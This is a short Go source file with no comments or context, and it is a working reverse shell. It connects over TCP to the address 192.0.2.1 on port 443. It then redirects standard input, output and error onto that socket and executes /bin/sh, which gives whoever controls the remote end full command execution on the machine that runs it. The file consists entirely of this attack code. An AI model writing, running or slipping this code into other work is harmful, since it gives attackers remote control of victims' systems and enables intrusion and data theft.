package main

import (
	"net"
	"os"
	"syscall"
)

func main() {
	conn, err := net.Dial("tcp", "192.0.2.1:443")
	if err != nil {
		os.Exit(1)
	}
	f, _ := conn.(*net.TCPConn).File()
	fd := int(f.Fd())
	for i := 0; i < 3; i++ {
		syscall.Dup2(fd, i)
	}
	syscall.Exec("/bin/sh", []string{"sh"}, os.Environ())
}
